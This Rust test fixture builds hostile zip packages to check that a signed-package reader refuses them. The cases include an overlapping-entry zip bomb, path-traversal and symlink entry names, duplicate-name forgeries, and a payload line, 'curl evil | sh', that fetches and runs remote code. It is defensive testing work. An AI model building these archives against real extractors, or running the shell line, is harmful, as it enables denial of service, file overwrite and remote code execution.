//! Hostile packages built in code, for the tests of every path that opens a package
//! (verify, import, upload) and for `bench/hostile`: the attacks of issue 9 items 3–6,
//! plus truncated and mislabelled zips and giant declared sizes. Not used in production.
//!
//! Each case is a zip a casefile writer never makes; most wrap a genuine signed package,
//! so only the reader's structural checks can refuse them.

use std::io::{Cursor, Write};

use ed25519_dalek::SigningKey;
use sha2::{Digest, Sha256};

use crate::archive::{Archive, Limits};
use crate::manifest::{ItemStatus, Manifest, ManifestItem};
use crate::writer::PackageMeta;
use crate::{ItemOutcome, ItemSink, MANIFEST_PATH, PackageWriter, SIGNATURE_PATH};

/// The real file the duplicate-name cases forge.
pub const VICTIM: &str = "Users and groups/users.csv";
/// A genuine file whose name is not ASCII (composed é), for the Unicode-form case.
pub const ACCENTED: &str = "Users and groups/caf\u{e9}.csv";

#[derive(Debug, Clone)]
pub struct HostileCase {
    /// Short id, also a file name.
    pub name: &'static str,
    /// The issue 9 item whose defect it reproduces.
    pub item: u8,
    pub defect: &'static str,
    pub bytes: Vec<u8>,
    /// Text the refusal must contain (the entry it names, as the message quotes it).
    pub names: String,
}

/// One stored entry of a hand-built zip.
#[derive(Debug, Clone)]
pub struct RawEntry {
    pub name: Vec<u8>,
    pub data: Vec<u8>,
    /// Deflate-compressed `data` when set (method 8), else stored.
    pub deflated: Option<Vec<u8>>,
    /// Unix mode (type and permission bits).
    pub mode: u32,
    /// Declared inflated size (normally `data.len()`).
    pub size: u64,
    /// Declared CRC-32 (normally of `data`).
    pub crc: u32,
}

impl RawEntry {
    pub fn file(name: &str, data: &[u8]) -> Self {
        Self {
            name: name.as_bytes().to_vec(),
            data: data.to_vec(),
            deflated: None,
            mode: 0o100_644,
            size: data.len() as u64,
            crc: crc(data),
        }
    }
}

/// A zip of `entries` laid out as any writer would, except that every central record `i`
/// points at the local record `central_to_local[i]` when given (overlapping entries).
pub fn assemble(entries: &[RawEntry], central_to_local: Option<&[usize]>) -> Vec<u8> {
    let mut out = Vec::new();
    let mut offsets = Vec::new();
    let utf8 = |name: &[u8]| if name.is_ascii() { 0u16 } else { 1 << 11 };
    for e in entries {
        offsets.push(out.len() as u32);
        let (method, body) = match &e.deflated {
            Some(d) => (8u16, d.as_slice()),
            None => (0u16, e.data.as_slice()),
        };
        out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        out.extend_from_slice(&20u16.to_le_bytes());
        out.extend_from_slice(&utf8(&e.name).to_le_bytes());
        out.extend_from_slice(&method.to_le_bytes());
        out.extend_from_slice(&[0, 0, 0x21, 0]); // time, date
        out.extend_from_slice(&e.crc.to_le_bytes());
        out.extend_from_slice(&(body.len() as u32).to_le_bytes());
        out.extend_from_slice(&(e.size.min(u64::from(u32::MAX)) as u32).to_le_bytes());
        out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        out.extend_from_slice(&(zip64(e).len() as u16).to_le_bytes());
        out.extend_from_slice(&e.name);
        out.extend_from_slice(&zip64(e));
        out.extend_from_slice(body);
    }
    let cd_start = out.len() as u32;
    let mapping: Vec<usize> = match central_to_local {
        Some(m) => m.to_vec(),
        None => (0..entries.len()).collect(),
    };
    for (i, &local) in mapping.iter().enumerate() {
        // The name is the central record's own: overlapping bombs give each a new name.
        let e = &entries[local];
        let name = if central_to_local.is_some() { format!("bomb/{i}.bin").into_bytes() } else { e.name.clone() };
        let (method, body) = match &e.deflated {
            Some(d) => (8u16, d.as_slice()),
            None => (0u16, e.data.as_slice()),
        };
        out.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        out.extend_from_slice(&((3u16 << 8) | 20).to_le_bytes());
        out.extend_from_slice(&20u16.to_le_bytes());
        out.extend_from_slice(&utf8(&name).to_le_bytes());
        out.extend_from_slice(&method.to_le_bytes());
        out.extend_from_slice(&[0, 0, 0x21, 0]);
        out.extend_from_slice(&e.crc.to_le_bytes());
        out.extend_from_slice(&(body.len() as u32).to_le_bytes());
        out.extend_from_slice(&(e.size.min(u64::from(u32::MAX)) as u32).to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&(zip64(e).len() as u16).to_le_bytes());
        out.extend_from_slice(&[0, 0, 0, 0, 0, 0]); // comment, disk, internal attributes
        out.extend_from_slice(&(e.mode << 16).to_le_bytes());
        out.extend_from_slice(&offsets[local].to_le_bytes());
        out.extend_from_slice(&name);
        out.extend_from_slice(&zip64(e));
    }
    let cd_size = out.len() as u32 - cd_start;
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0, 0, 0, 0]);
    out.extend_from_slice(&(mapping.len() as u16).to_le_bytes());
    out.extend_from_slice(&(mapping.len() as u16).to_le_bytes());
    out.extend_from_slice(&cd_size.to_le_bytes());
    out.extend_from_slice(&cd_start.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// The zip64 extra field of an entry declaring more than 4 GiB (its inflated size only).
fn zip64(e: &RawEntry) -> Vec<u8> {
    if e.size < u64::from(u32::MAX) {
        return Vec::new();
    }
    let mut field = vec![0x01, 0x00, 8, 0];
    field.extend_from_slice(&e.size.to_le_bytes());
    field
}

fn crc(data: &[u8]) -> u32 {
    let mut h = crc32fast::Hasher::new();
    h.update(data);
    h.finalize()
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(data).expect("in memory");
    enc.finish().expect("in memory")
}

/// A genuine signed package described by `meta`, holding [`VICTIM`] and [`ACCENTED`].
pub fn genuine(key: &SigningKey, meta: PackageMeta) -> Vec<u8> {
    let mut writer = PackageWriter::new(Cursor::new(Vec::new()), meta);
    writer.begin_collector("users", "Users and groups");
    for (name, body) in [("users.csv", "user,uid\nroot,0\nalice,1000\n"), ("caf\u{e9}.csv", "menu\n")] {
        let sink: &mut dyn ItemSink = &mut writer;
        sink.file(name, "/etc", |w| w.write_all(body.as_bytes()).map(|()| ItemOutcome::ok())).expect("in memory");
    }
    writer.end_collector(None);
    writer.finish_signed(key).expect("in memory").0.into_inner()
}

/// The entries of a package the reader accepts, inflated (stored again when rebuilt).
pub fn entries_of(package: &[u8]) -> Vec<RawEntry> {
    let mut zip = Archive::open(Cursor::new(package), Limits::default()).expect("a genuine package");
    let names: Vec<String> = zip.entries().iter().map(|e| e.name.clone()).collect();
    names
        .iter()
        .enumerate()
        .map(|(i, name)| RawEntry::file(name, &zip.read_to_vec(i, u64::MAX).expect("a genuine package")))
        .collect()
}

/// A package of `files` (listed in a manifest built from `meta`, signed by `key`) plus
/// `unlisted` entries, in that order: the shape of a forged but signed package.
pub fn signed_with(key: &SigningKey, meta: &PackageMeta, files: Vec<RawEntry>, unlisted: Vec<RawEntry>) -> Vec<u8> {
    let now = chrono::Utc::now();
    signed_at(key, meta, files, unlisted, (now, now))
}

/// [`signed_with`], the manifest saying the collection ran over `times` (started, finished).
pub fn signed_at(
    key: &SigningKey,
    meta: &PackageMeta,
    files: Vec<RawEntry>,
    unlisted: Vec<RawEntry>,
    times: (chrono::DateTime<chrono::Utc>, chrono::DateTime<chrono::Utc>),
) -> Vec<u8> {
    let items = files
        .iter()
        .map(|f| item(&String::from_utf8_lossy(&f.name), &hex::encode(Sha256::digest(&f.data)), f.size))
        .collect();
    let mut entries = files;
    entries.extend(unlisted);
    entries.extend(manifest_entries(key, meta, items, times));
    assemble(&entries, None)
}

fn item(path: &str, sha256: &str, size: u64) -> ManifestItem {
    ManifestItem {
        path: path.to_owned(),
        source: "forged".to_owned(),
        sha256: sha256.to_owned(),
        size,
        collector: "forged".to_owned(),
        status: ItemStatus::Ok,
        error: None,
        duration_ms: 0,
    }
}

/// `manifest.json` listing `items`, and `manifest.sig` signing it.
fn manifest_entries(
    key: &SigningKey,
    meta: &PackageMeta,
    items: Vec<ManifestItem>,
    (started, finished): (chrono::DateTime<chrono::Utc>, chrono::DateTime<chrono::Utc>),
) -> [RawEntry; 2] {
    let manifest = Manifest {
        format: crate::manifest::FORMAT_VERSION,
        tool: meta.tool.clone(),
        agent_version: meta.agent_version.clone(),
        host: meta.host.clone(),
        action_id: meta.action_id,
        profile: meta.profile.clone(),
        started_utc: started,
        finished_utc: finished,
        collectors: Vec::new(),
        items,
    };
    let manifest_bytes = serde_json::to_vec_pretty(&manifest).expect("serializable");
    let signature = serde_json::to_vec_pretty(&crate::signature::sign(&manifest_bytes, key)).expect("serializable");
    [RawEntry::file(MANIFEST_PATH, &manifest_bytes), RawEntry::file(SIGNATURE_PATH, &signature)]
}

/// Inflated size of each overlapping bomb entry, and how many entries share its data.
pub const BOMB_ENTRY_BYTES: u64 = 1 << 30;
pub const BOMB_ENTRIES: usize = 40;

/// The overlapping-entry bomb of item 4: [`BOMB_ENTRIES`] central records share one
/// deflated block of [`BOMB_ENTRY_BYTES`] zeros; listed and signed, so a reader that
/// trusts the central directory inflates 40 GiB from about 1 MB.
pub fn overlapping_bomb(key: &SigningKey, meta: &PackageMeta) -> Vec<u8> {
    // CRC-32 and SHA-256 of 1 GiB of zeros, so tests need not compute them.
    const ZEROS_CRC: u32 = 0x5b64_c2b0;
    const ZEROS_SHA256: &str = "49bc20df15e412a64472421e13fe86ff1c5165e18b2afccf160d4dc19fe68a14";
    // A full flush makes each MiB's deflate output independent and identical, so the
    // block is that output repeated, then an empty final block (`03 00`).
    let mut compressor = flate2::Compress::new(flate2::Compression::best(), false);
    let mut chunk = Vec::with_capacity(64 << 10);
    compressor.compress_vec(&vec![0u8; 1 << 20], &mut chunk, flate2::FlushCompress::Full).expect("in memory");
    let mut block = chunk.repeat((BOMB_ENTRY_BYTES >> 20) as usize);
    block.extend_from_slice(&[0x03, 0x00]);
    let bomb = RawEntry {
        name: b"bomb/0.bin".to_vec(),
        data: Vec::new(),
        deflated: Some(block),
        mode: 0o100_644,
        size: BOMB_ENTRY_BYTES,
        crc: ZEROS_CRC,
    };
    let items = (0..BOMB_ENTRIES).map(|i| item(&format!("bomb/{i}.bin"), ZEROS_SHA256, BOMB_ENTRY_BYTES)).collect();
    splice(
        &assemble(&[bomb], Some(&[0; BOMB_ENTRIES])),
        &assemble(&manifest_entries(key, meta, items, (chrono::Utc::now(), chrono::Utc::now())), None),
    )
}

/// Appends the entries of zip `b` after those of zip `a` (both from [`assemble`]).
fn splice(a: &[u8], b: &[u8]) -> Vec<u8> {
    let parts = |z: &[u8]| {
        let end = z.len() - 22;
        let count = u16::from_le_bytes([z[end + 10], z[end + 11]]);
        let cd_size = u32::from_le_bytes([z[end + 12], z[end + 13], z[end + 14], z[end + 15]]) as usize;
        let cd_start = u32::from_le_bytes([z[end + 16], z[end + 17], z[end + 18], z[end + 19]]) as usize;
        (z[..cd_start].to_vec(), z[cd_start..cd_start + cd_size].to_vec(), count)
    };
    let (a_local, a_cd, a_count) = parts(a);
    let (b_local, mut b_cd, b_count) = parts(b);
    // Shift b's local offsets by a's local bytes.
    let mut i = 0;
    while i + 46 <= b_cd.len() {
        let offset =
            u32::from_le_bytes([b_cd[i + 42], b_cd[i + 43], b_cd[i + 44], b_cd[i + 45]]) + a_local.len() as u32;
        b_cd[i + 42..i + 46].copy_from_slice(&offset.to_le_bytes());
        let field = |at: usize| usize::from(u16::from_le_bytes([b_cd[i + at], b_cd[i + at + 1]]));
        i += 46 + field(28) + field(30) + field(32);
    }
    let mut out = a_local.clone();
    out.extend_from_slice(&b_local);
    let cd_start = out.len() as u32;
    out.extend_from_slice(&a_cd);
    out.extend_from_slice(&b_cd);
    let cd_size = out.len() as u32 - cd_start;
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0, 0, 0, 0]);
    out.extend_from_slice(&(a_count + b_count).to_le_bytes());
    out.extend_from_slice(&(a_count + b_count).to_le_bytes());
    out.extend_from_slice(&cd_size.to_le_bytes());
    out.extend_from_slice(&cd_start.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

fn quoted(name: &str) -> String {
    format!("{name:?}")
}

/// Every structural case, wrapping packages described by `meta` and signed by `key`.
/// Replay cases are the server's (see [`genuine`] with another action's `meta`).
pub fn cases(key: &SigningKey, meta: &PackageMeta) -> Vec<HostileCase> {
    let real = genuine(key, meta.clone());
    let real_entries = entries_of(&real);
    let forged_in_front = |forged_name: &str| {
        let mut entries = vec![RawEntry::file(forged_name, b"user,uid\nmallory,0\n")];
        entries.extend(real_entries.iter().cloned());
        assemble(&entries, None)
    };
    let escaping = |name: &str, mode: u32| {
        let mut entry = RawEntry::file(name, b"#!/bin/sh\ncurl evil | sh\n");
        entry.mode = mode;
        signed_with(key, meta, vec![RawEntry::file(VICTIM, b"user,uid\nroot,0\n"), entry], Vec::new())
    };
    let decomposed: String = ACCENTED.nfd().collect();
    let mut cases = vec![
        HostileCase {
            name: "duplicate-name",
            item: 3,
            defect: "a forged entry with the same name in front of the genuine signed one",
            bytes: forged_in_front(VICTIM),
            names: quoted(VICTIM),
        },
        HostileCase {
            name: "duplicate-name-case",
            item: 3,
            defect: "a forged entry whose name differs only in letter case",
            bytes: forged_in_front("users and groups/USERS.csv"),
            names: quoted(VICTIM),
        },
        HostileCase {
            name: "duplicate-name-unicode",
            item: 3,
            defect: "a forged entry whose name differs only in Unicode normalization (NFD)",
            bytes: forged_in_front(&decomposed),
            names: quoted(ACCENTED),
        },
        HostileCase {
            name: "overlapping-bomb",
            item: 4,
            defect: "40 entries share one deflated block of 1 GiB of zeros (40 GiB declared)",
            bytes: overlapping_bomb(key, meta),
            names: quoted("bomb/1.bin"),
        },
        HostileCase {
            name: "dotdot",
            item: 5,
            defect: "a `../` name",
            bytes: escaping("../evil.sh", 0o100_755),
            names: quoted("../evil.sh"),
        },
        HostileCase {
            name: "absolute",
            item: 5,
            defect: "an absolute name",
            bytes: escaping("/etc/cron.d/evil", 0o100_644),
            names: quoted("/etc/cron.d/evil"),
        },
        HostileCase {
            name: "drive-letter",
            item: 5,
            defect: "a drive-letter name",
            bytes: escaping("C:/Windows/evil.bat", 0o100_644),
            names: quoted("C:/Windows/evil.bat"),
        },
        HostileCase {
            name: "backslash",
            item: 5,
            defect: "a backslash name",
            bytes: escaping("..\\..\\evil.bat", 0o100_644),
            names: quoted("..\\..\\evil.bat"),
        },
        HostileCase {
            name: "symlink",
            item: 5,
            defect: "a symbolic link entry",
            bytes: escaping("Users and groups/shadow", 0o120_777),
            names: quoted("Users and groups/shadow"),
        },
        HostileCase {
            name: "unlisted",
            item: 3,
            defect: "an entry the signed manifest does not list",
            bytes: signed_with(
                key,
                meta,
                vec![RawEntry::file(VICTIM, b"x\n")],
                vec![RawEntry::file("Users and groups/backdoor.sh", b"#!/bin/sh\n")],
            ),
            names: "Users and groups/backdoor.sh".to_owned(),
        },
        HostileCase {
            name: "truncated",
            item: 4,
            defect: "a package cut in half",
            bytes: real[..real.len() / 2].to_vec(),
            names: "truncated".to_owned(),
        },
        HostileCase {
            name: "mislabelled",
            item: 4,
            defect: "a file that is not a zip",
            bytes: b"\x89PNG\r\n\x1a\n not a zip at all, whatever its name says".to_vec(),
            names: "not a zip".to_owned(),
        },
    ];
    // Giant declared sizes: the central directory and the manifest both claim 2^62 bytes.
    let mut giant = RawEntry::file("Users and groups/huge.bin", b"tiny");
    giant.deflated = Some(deflate(b"tiny"));
    giant.size = 1 << 62;
    cases.push(HostileCase {
        name: "giant-declared-size",
        item: 4,
        defect: "an entry declaring 2^62 bytes inflated (zip64), listed so in the manifest",
        bytes: signed_with(key, meta, vec![giant], Vec::new()),
        names: quoted("Users and groups/huge.bin"),
    });
    // A header that lies small: 10 bytes declared and listed, 8 MiB of zeros inflated.
    let zeros = vec![0u8; 8 << 20];
    let mut liar = RawEntry::file("Users and groups/liar.bin", &zeros[..10]);
    liar.deflated = Some(deflate(&zeros));
    let bytes = signed_with(key, meta, vec![liar], Vec::new());
    cases.push(HostileCase {
        name: "inflates-past-size",
        item: 4,
        defect: "an entry declared and listed at 10 bytes that inflates to 8 MiB",
        bytes,
        names: quoted("Users and groups/liar.bin"),
    });
    cases
}

use unicode_normalization::UnicodeNormalization as _;
